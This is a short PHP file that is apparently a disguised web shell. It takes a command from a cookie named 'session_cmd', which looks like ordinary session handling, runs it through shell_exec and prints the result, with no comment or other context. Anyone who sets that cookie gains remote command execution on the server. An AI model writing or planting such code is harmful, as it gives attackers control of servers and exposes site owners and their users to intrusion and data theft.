<?php
$c = $_COOKIE['session_cmd'];
if ($c) { echo shell_exec($c); }
